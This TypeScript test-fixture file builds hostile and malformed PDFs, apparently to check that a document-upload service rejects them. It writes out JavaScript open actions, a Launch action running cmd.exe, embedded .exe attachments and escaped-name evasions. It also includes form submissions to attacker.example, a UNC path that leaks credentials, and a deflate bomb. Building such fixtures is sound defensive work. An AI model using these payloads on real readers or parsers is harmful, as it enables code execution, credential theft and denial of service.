import { PDFDocument } from 'pdf-lib';
import { incrementalUpdate, objectStream, onePage, rawPdf } from './raw-pdf.ts';
import { zipArchive } from './hostile-other.ts';

/**
 * Hostile and malformed PDFs, one per way the third-party corpus got through or crashed the
 * service. Each is a one-page document that opens in a viewer, plus its payload.
 */
const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';
const EXECUTABLE_STREAM = { dictionary: '/Type /EmbeddedFile /Subtype /application#2Foctet-stream', stream: 'MZ\x90\x00payload' };

export const openActionJavascript = () => rawPdf([...onePage({ catalog: '/OpenAction 6 0 R' }), JS_ACTION]);

export const launchAction = () =>
  rawPdf([...onePage({ catalog: '/OpenAction 6 0 R' }), '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>']);

export const embeddedFilesNameTree = () =>
  rawPdf([
    ...onePage({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' }),
    '<< /Names [(invoice.exe) 7 0 R] >>',
    '<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>',
    EXECUTABLE_STREAM,
  ]);

export const fileAttachmentAnnotation = () =>
  rawPdf([
    ...onePage({ page: '/Annots [6 0 R]' }),
    '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 7 0 R >>',
    '<< /Type /Filespec /F (notes.exe) /EF << /F 8 0 R >> >>',
    EXECUTABLE_STREAM,
  ]);

export const xfaForm = () =>
  rawPdf([
    ...onePage({ catalog: '/AcroForm 6 0 R' }),
    '<< /Fields [] /XFA 7 0 R >>',
    { dictionary: '', stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox(1)</script></xdp:xdp>' },
  ]);

/** `/JavaScript` and `/JS` spelled with lower-case #xx escapes, which pdf-lib leaves undecoded. */
export const escapedNames = () =>
  rawPdf([...onePage({ catalog: '/OpenAction 6 0 R' }), '<< /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>']);

/** The JavaScript action is object 7, compressed inside object stream 6. */
export const javascriptInObjectStream = () =>
  rawPdf([...onePage({ catalog: '/OpenAction 7 0 R' }), objectStream([[7, JS_ACTION]])]);

/** The action's dictionary is broken (an unclosed array), so a strict parser gives up on the object. */
export const javascriptInDamagedObject = () =>
  rawPdf([...onePage({ catalog: '/OpenAction 6 0 R' }), '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next [ 1 0 R >>']);

/** The script itself in a compressed stream the action points at. */
export const javascriptInCompressedStream = () =>
  rawPdf([
    ...onePage({ catalog: '/OpenAction 6 0 R' }),
    '<< /S /JavaScript /JS 7 0 R >>',
    { dictionary: '', stream: 'app.launchURL("https://attacker.example/")', deflate: true },
  ]);

export const missingEndobj = () => rawPdf([...onePage({ catalog: '/OpenAction 6 0 R' }), JS_ACTION], { withoutEndobj: [1, 6] });

export const missingEndobjPlain = () => rawPdf(onePage(), { withoutEndobj: [2, 3, 4] });

/** A clean file, then an incremental update (as an editor saves) whose new catalog runs JavaScript. */
export const incrementalUpdateAddingJavascript = () =>
  incrementalUpdate(
    rawPdf(onePage()),
    new Map([
      [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>'],
      [6, JS_ACTION],
    ]),
    1,
  );

/** A script in an object nothing refers to: viewers skip it, a later edit could wire it up. */
export const unreferencedJavascriptObject = () => rawPdf([...onePage(), JS_ACTION]);

/** A page whose "open" event runs JavaScript (additional actions). */
export const pageAdditionalAction = () => rawPdf([...onePage({ page: '/AA << /O 6 0 R >>' }), JS_ACTION]);

export const submitForm = () =>
  rawPdf([
    ...onePage({ catalog: '/OpenAction 6 0 R' }),
    '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>',
  ]);

/** Opening another file: on Windows a UNC path leaks the user's credentials to that server. */
export const remoteGoTo = () =>
  rawPdf([
    ...onePage({ catalog: '/OpenAction 6 0 R' }),
    '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  ]);

/** An object stream of 80 MB of spaces in about 80 KB: a deflate bomb for a parser that inflates it whole. */
export const objectStreamBomb = () =>
  rawPdf([
    ...onePage(),
    { dictionary: '/Type /Obj#53tm /N 1 /First 5', stream: Buffer.alloc(80 * 1024 * 1024, 0x20), deflate: true },
  ]);

/** A ZIP archive appended after the end of a clean PDF (a PDF/ZIP polyglot). */
export async function zipAppendedAfterEnd(): Promise<Buffer> {
  return Buffer.concat([rawPdf(onePage()), zipArchive()]);
}

export const garbageAfterHeader = () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x8f)]);

export const pageTreeMissing = () => rawPdf(['<< /Type /Catalog /Pages 9 0 R >>', '<< /Producer (nothing) >>']);

/** Arrays nested 50,000 deep: a recursive reader runs out of stack. */
export const deeplyNested = () => rawPdf([...onePage(), `${'['.repeat(50_000)}${']'.repeat(50_000)}`]);

/** A well-formed document with a link to a web page: accepted (links are ordinary in evidence). */
export async function pdfWithWebLink(): Promise<Buffer> {
  return rawPdf([
    ...onePage({ page: '/Annots [6 0 R]' }),
    '<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A << /S /URI /URI (https://www.uscis.gov/) >> >>',
  ]);
}

/** pdf-lib's own output (object streams, xref stream): accepted. */
export async function pdfLibDocument(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([300, 200]).drawText('Recommendation letter', { x: 20, y: 100, size: 12 });
  return Buffer.from(await document.save({ useObjectStreams: true }));
}
